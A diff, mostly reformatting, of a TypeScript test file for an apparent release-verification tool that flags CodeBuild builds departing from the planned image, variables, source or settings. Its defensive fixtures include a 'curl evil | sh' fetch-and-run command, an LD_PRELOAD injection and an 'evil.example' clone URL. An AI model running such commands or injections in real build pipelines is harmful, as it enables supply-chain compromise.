@@ -8,7 +8,7 @@ import { describe, expect, it } from 'vitest';
 import { BUILD_ENV } from '../../lambda/adapters/builder/codebuild-env';
 import { CodeBuildResults, overridesOf, type ExpectedRecipe } from '../../lambda/adapters/builder/codebuild-results';
 import { FINDING_CODES } from '../../lambda/core/findings';
-import type { RunPlan } from '../../lambda/core/plan';
+import type { RunPlan } from '../../lambda/core/run/plan';
 
 const IMAGE = `debian@sha256:${'c'.repeat(64)}`;
 const recipe: ExpectedRecipe = { command: 'make release', env: { CARGO_TERM_COLOR: 'never' }, privileged: false };
@@ -45,11 +45,18 @@ function build(change: (b: Build) => void = () => undefined): Build {
 const vars = (b: Build) => b.environment!.environmentVariables!;
 // what the launcher sets for this run and target (codebuild-launcher.ts), exactly
 const launched: Record<string, string> = {
-  [BUILD_ENV.runId]: RUN, [BUILD_ENV.target]: 'linux', [BUILD_ENV.commit]: 'a'.repeat(40), [BUILD_ENV.tag]: 'v1.0.0',
-  [BUILD_ENV.version]: '1.0.0', [BUILD_ENV.cloneUrl]: 'https://gitlab.example/g/app.git', [BUILD_ENV.artifacts]: 'out/app',
+  [BUILD_ENV.runId]: RUN,
+  [BUILD_ENV.target]: 'linux',
+  [BUILD_ENV.commit]: 'a'.repeat(40),
+  [BUILD_ENV.tag]: 'v1.0.0',
+  [BUILD_ENV.version]: '1.0.0',
+  [BUILD_ENV.cloneUrl]: 'https://gitlab.example/g/app.git',
+  [BUILD_ENV.artifacts]: 'out/app',
 };
 const plan = {
-  runId: RUN, version: '1.0.0', release: { tag: 'v1.0.0', name: 'v1.0.0', commitSha: 'a'.repeat(40), tagCommitSha: 'a'.repeat(40), links: [] },
+  runId: RUN,
+  version: '1.0.0',
+  release: { tag: 'v1.0.0', name: 'v1.0.0', commitSha: 'a'.repeat(40), tagCommitSha: 'a'.repeat(40), links: [] },
   targets: [{ name: 'linux', image: IMAGE, artifacts: [{ path: 'out/app' }] }],
 } as unknown as RunPlan;
 const launch = { plan, cloneUrl: 'https://gitlab.example/g/app.git', stagedSource: false };
@@ -59,16 +66,86 @@ describe('the build record compared with the plan', () => {
     expect(overridesOf(build(), IMAGE, recipe, launched)).toEqual([]);
   });
   it('each departure is named', () => {
-    expect(overridesOf(build((b) => (b.environment!.image = 'attacker/img@sha256:' + '0'.repeat(64))), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^image attacker\/img@sha256:0+, planned debian@sha256/)]);
-    expect(overridesOf(build((b) => (vars(b)[0]!.value = 'curl evil | sh')), IMAGE, recipe, launched)).toEqual([`variable ${BUILD_ENV.command} is "curl evil | sh", planned "make release"`]);
-    expect(overridesOf(build((b) => vars(b).push({ name: BUILD_ENV.command, value: 'curl evil | sh', type: 'PLAINTEXT' })), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/variable RELVERIFY_COMMAND is "make release \| curl evil \| sh"/)]);
-    expect(overridesOf(build((b) => vars(b).push({ name: 'LD_PRELOAD', value: '/tmp/x.so', type: 'PLAINTEXT' })), IMAGE, recipe, launched)).toEqual(['variable LD_PRELOAD was not planned']);
-    expect(overridesOf(build((b) => vars(b).splice(2, 1)), IMAGE, recipe, launched)).toEqual(['variable CARGO_TERM_COLOR missing']);
-    expect(overridesOf(build((b) => (vars(b)[3]!.type = 'PARAMETER_STORE')), IMAGE, recipe, launched)).toEqual([`variable ${BUILD_ENV.runId} is PARAMETER_STORE, not PLAINTEXT`]);
-    expect(overridesOf(build((b) => (b.environment!.privilegedMode = true)), IMAGE, recipe, launched)).toEqual(['privileged mode on, planned off']);
-    expect(overridesOf(build((b) => (b.environment!.privilegedMode = true)), IMAGE, { ...recipe, privileged: true }, launched)).toEqual([]);
-    expect(overridesOf(build((b) => (b.source = { type: 'S3', location: 'evil-bucket/src.zip' })), IMAGE, recipe, launched)).toEqual(['source S3 evil-bucket/src.zip, planned none (NO_SOURCE)']);
-    expect(overridesOf(build((b) => (b.source = { type: 'NO_SOURCE' })), IMAGE, recipe, launched)).toEqual([]);
+    expect(
+      overridesOf(
+        build((b) => (b.environment!.image = 'attacker/img@sha256:' + '0'.repeat(64))),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([expect.stringMatching(/^image attacker\/img@sha256:0+, planned debian@sha256/)]);
+    expect(
+      overridesOf(
+        build((b) => (vars(b)[0]!.value = 'curl evil | sh')),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([`variable ${BUILD_ENV.command} is "curl evil | sh", planned "make release"`]);
+    expect(
+      overridesOf(
+        build((b) => vars(b).push({ name: BUILD_ENV.command, value: 'curl evil | sh', type: 'PLAINTEXT' })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([expect.stringMatching(/variable RELVERIFY_COMMAND is "make release \| curl evil \| sh"/)]);
+    expect(
+      overridesOf(
+        build((b) => vars(b).push({ name: 'LD_PRELOAD', value: '/tmp/x.so', type: 'PLAINTEXT' })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual(['variable LD_PRELOAD was not planned']);
+    expect(
+      overridesOf(
+        build((b) => vars(b).splice(2, 1)),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual(['variable CARGO_TERM_COLOR missing']);
+    expect(
+      overridesOf(
+        build((b) => (vars(b)[3]!.type = 'PARAMETER_STORE')),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([`variable ${BUILD_ENV.runId} is PARAMETER_STORE, not PLAINTEXT`]);
+    expect(
+      overridesOf(
+        build((b) => (b.environment!.privilegedMode = true)),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual(['privileged mode on, planned off']);
+    expect(
+      overridesOf(
+        build((b) => (b.environment!.privilegedMode = true)),
+        IMAGE,
+        { ...recipe, privileged: true },
+        launched,
+      ),
+    ).toEqual([]);
+    expect(
+      overridesOf(
+        build((b) => (b.source = { type: 'S3', location: 'evil-bucket/src.zip' })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual(['source S3 evil-bucket/src.zip, planned none (NO_SOURCE)']);
+    expect(
+      overridesOf(
+        build((b) => (b.source = { type: 'NO_SOURCE' })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([]);
   });
   it('toBuildResult carries them (and a target without a recipe is refused, not trusted); the finding is INCOMPLETE', () => {
     const results = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: { linux: recipe } });
@@ -95,21 +172,42 @@ describe('in the target report', () => {
     const config = testConfig({
       targets: [
         { name: 'linux', image: IMAGE, command: 'make', artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }] },
-        { name: 'mac', platform: 'macos', image: 'aws/codebuild/macos-arm-base:15', fleetArn: 'arn:aws:codebuild:eu-west-1:123456789012:fleet/mac:1', command: 'make', artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }] },
+        {
+          name: 'mac',
+          platform: 'macos',
+          image: 'aws/codebuild/macos-arm-base:15',
+          fleetArn: 'arn:aws:codebuild:eu-west-1:123456789012:fleet/mac:1',
+          command: 'make',
+          artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }],
+        },
       ],
     });
     const sha = 'a'.repeat(40);
     const plan = planFor(config, RUN, sha);
     const forge = new DirectoryForge(plan.release, dir, '/nonexistent');
-    const rebuilt = { fetch: async (_p: string, dest: string) => (await writeFile(dest, 'app\n'), { path: dest, sha256: (await import('node:crypto')).createHash('sha256').update('app\n').digest('hex'), size: 4 }) };
+    const rebuilt = {
+      fetch: async (_p: string, dest: string) => (
+        await writeFile(dest, 'app\n'), { path: dest, sha256: (await import('node:crypto')).createHash('sha256').update('app\n').digest('hex'), size: 4 }
+      ),
+    };
     const deps = { forge, workDir: dir, limits: { maxBytes: 1 << 20, timeoutMs: 5000 }, formats: (await import('../../lambda/formats/ops')).formatOps };
     const base = { buildId: 'b:1', status: 'SUCCEEDED' as const, artifacts: rebuilt };
     const clean = await checkTarget(plan, 'linux', { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: [] }, deps);
     expect(clean.verdict).toBe('VERIFIED');
-    const overridden = await checkTarget(plan, 'linux', { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: ['variable LD_PRELOAD was not planned'] }, deps);
+    const overridden = await checkTarget(
+      plan,
+      'linux',
+      { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: ['variable LD_PRELOAD was not planned'] },
+      deps,
+    );
     expect(overridden.verdict).toBe('INCOMPLETE');
     expect(overridden.findings.map((f) => f.code)).toContain('BUILD_OVERRIDDEN');
-    const mac = await checkTarget(plan, 'mac', { ...base, target: 'mac', image: { ref: 'aws/codebuild/macos-arm-base:15', enforced: true }, overrides: [] }, deps);
+    const mac = await checkTarget(
+      plan,
+      'mac',
+      { ...base, target: 'mac', image: { ref: 'aws/codebuild/macos-arm-base:15', enforced: true }, overrides: [] },
+      deps,
+    );
     expect(mac.verdict).toBe('VERIFIED');
     const notice = mac.findings.find((f) => f.code === 'IMAGE_NOT_DIGEST_PINNED');
     expect(notice?.message).toMatch(/image not pinned by digest: fleet-provided \(aws\/codebuild\/macos-arm-base:15/);
@@ -117,7 +215,7 @@ describe('in the target report', () => {
   });
 });
 
-describe('the launcher\'s variables compared with the plan', () => {
+describe("the launcher's variables compared with the plan", () => {
   const set = (name: string, value: string) => (b: Build) => {
     b.environment!.environmentVariables = [...vars(b).filter((v) => v.name !== name), { name, value, type: 'PLAINTEXT' }];
   };
@@ -126,32 +224,70 @@ describe('the launcher\'s variables compared with the plan', () => {
     expect(overridesOf(build(), IMAGE, recipe, launched)).toEqual([]);
   });
   it('another commit, tag, version, clone URL, artifact list or staged source is an override', () => {
-    expect(overridesOf(build(set(BUILD_ENV.commit, 'b'.repeat(40))), IMAGE, recipe, launched)).toEqual([`variable ${BUILD_ENV.commit} is "${'b'.repeat(40)}", planned "${'a'.repeat(40)}"`]);
-    expect(overridesOf(build(set(BUILD_ENV.cloneUrl, 'https://evil.example/fork.git')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_CLONE_URL is "https:\/\/evil.example\/fork.git"/)]);
+    expect(overridesOf(build(set(BUILD_ENV.commit, 'b'.repeat(40))), IMAGE, recipe, launched)).toEqual([
+      `variable ${BUILD_ENV.commit} is "${'b'.repeat(40)}", planned "${'a'.repeat(40)}"`,
+    ]);
+    expect(overridesOf(build(set(BUILD_ENV.cloneUrl, 'https://evil.example/fork.git')), IMAGE, recipe, launched)).toEqual([
+      expect.stringMatching(/^variable RELVERIFY_CLONE_URL is "https:\/\/evil.example\/fork.git"/),
+    ]);
     expect(overridesOf(build(set(BUILD_ENV.tag, 'v0.9.0')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_TAG is "v0.9.0"/)]);
-    expect(overridesOf(build(set(BUILD_ENV.version, '0.9.0')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_VERSION is "0.9.0"/)]);
+    expect(overridesOf(build(set(BUILD_ENV.version, '0.9.0')), IMAGE, recipe, launched)).toEqual([
+      expect.stringMatching(/^variable RELVERIFY_VERSION is "0.9.0"/),
+    ]);
     expect(overridesOf(build(set(BUILD_ENV.artifacts, '')), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/^variable RELVERIFY_ARTIFACTS is ""/)]);
     // a staged source the launcher did not stage (another run's tarball), and one it did but elsewhere
-    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, launched)).toEqual([`variable ${BUILD_ENV.sourceS3} was not planned`]);
+    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, launched)).toEqual([
+      `variable ${BUILD_ENV.sourceS3} was not planned`,
+    ]);
     const staged = { ...launched, [BUILD_ENV.sourceS3]: `s3://a/sources/${RUN}/source.tar` };
-    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, staged)).toEqual([expect.stringMatching(/^variable RELVERIFY_SOURCE_S3 is "s3:\/\/a\/sources\/x\/source.tar"/)]);
+    expect(overridesOf(build(set(BUILD_ENV.sourceS3, 's3://a/sources/x/source.tar')), IMAGE, recipe, staged)).toEqual([
+      expect.stringMatching(/^variable RELVERIFY_SOURCE_S3 is "s3:\/\/a\/sources\/x\/source.tar"/),
+    ]);
     expect(overridesOf(build(), IMAGE, recipe, staged)).toEqual([`variable ${BUILD_ENV.sourceS3} missing`]);
     // a launcher variable dropped (the buildspec would then fail or fall back)
-    expect(overridesOf(build((b) => (b.environment!.environmentVariables = vars(b).filter((v) => v.name !== BUILD_ENV.cloneUrl))), IMAGE, recipe, launched)).toEqual([`variable ${BUILD_ENV.cloneUrl} missing`]);
+    expect(
+      overridesOf(
+        build((b) => (b.environment!.environmentVariables = vars(b).filter((v) => v.name !== BUILD_ENV.cloneUrl))),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([`variable ${BUILD_ENV.cloneUrl} missing`]);
   });
   it('a build with a debug session (Session Manager, no IAM condition key) is an override', () => {
-    expect(overridesOf(build((b) => (b.debugSession = { sessionEnabled: true })), IMAGE, recipe, launched)).toEqual([expect.stringMatching(/debug session/)]);
-    expect(overridesOf(build((b) => (b.debugSession = { sessionEnabled: false })), IMAGE, recipe, launched)).toEqual([]);
+    expect(
+      overridesOf(
+        build((b) => (b.debugSession = { sessionEnabled: true })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([expect.stringMatching(/debug session/)]);
+    expect(
+      overridesOf(
+        build((b) => (b.debugSession = { sessionEnabled: false })),
+        IMAGE,
+        recipe,
+        launched,
+      ),
+    ).toEqual([]);
   });
   it('toBuildResult derives the expected variables from the plan, the clone URL and aws.stageSource', () => {
     const results = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: { linux: recipe } });
     const record = { runId: RUN, target: 'linux', build: build() };
     expect(results.toBuildResult(record, IMAGE, launch).overrides).toEqual([]);
-    expect(results.toBuildResult({ ...record, build: build(set(BUILD_ENV.commit, 'b'.repeat(40))) }, IMAGE, launch).overrides).toEqual([expect.stringMatching(/RELVERIFY_COMMIT/)]);
-    expect(results.toBuildResult(record, IMAGE, { ...launch, cloneUrl: 'https://gitlab.example/other/app.git' }).overrides).toEqual([expect.stringMatching(/RELVERIFY_CLONE_URL/)]);
+    expect(results.toBuildResult({ ...record, build: build(set(BUILD_ENV.commit, 'b'.repeat(40))) }, IMAGE, launch).overrides).toEqual([
+      expect.stringMatching(/RELVERIFY_COMMIT/),
+    ]);
+    expect(results.toBuildResult(record, IMAGE, { ...launch, cloneUrl: 'https://gitlab.example/other/app.git' }).overrides).toEqual([
+      expect.stringMatching(/RELVERIFY_CLONE_URL/),
+    ]);
     // with aws.stageSource the build must read exactly this run's tarball in the artifacts bucket
     expect(results.toBuildResult(record, IMAGE, { ...launch, stagedSource: true }).overrides).toEqual([`variable ${BUILD_ENV.sourceS3} missing`]);
-    expect(results.toBuildResult({ ...record, build: build(set(BUILD_ENV.sourceS3, `s3://a/sources/${RUN}/source.tar`)) }, IMAGE, { ...launch, stagedSource: true }).overrides).toEqual([]);
+    expect(
+      results.toBuildResult({ ...record, build: build(set(BUILD_ENV.sourceS3, `s3://a/sources/${RUN}/source.tar`)) }, IMAGE, { ...launch, stagedSource: true })
+        .overrides,
+    ).toEqual([]);
     // the wrong commit is caught by the variables; the build's own HEAD claim is not evidence
     expect(results.toBuildResult(record, IMAGE, launch).checkedOutSha).toBeUndefined();
   });
